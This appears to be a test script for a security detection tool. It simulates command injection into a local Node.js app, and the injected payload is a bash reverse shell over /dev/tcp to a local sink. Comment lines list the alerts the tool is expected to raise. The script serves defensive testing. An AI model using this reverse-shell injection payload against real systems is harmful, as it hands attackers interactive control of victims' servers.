#!/usr/bin/env bash
# A Node.js app's injection bug used to open an interactive shell back to the
# attacker over TCP.
# expect: server_spawned_suspicious_child
# expect: reverse_shell
# expect: shell_network_connection
. "$(dirname "$0")/../lib.sh"
c2=$(vs_sink)
app=$(vs_node_app)
c="timeout -s KILL 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/$c2 0>&1' 2>/dev/null; true"
curl -s --max-time 5 "http://127.0.0.1:$app/api/run?c=$(vs_q "$c")" >/dev/null
true
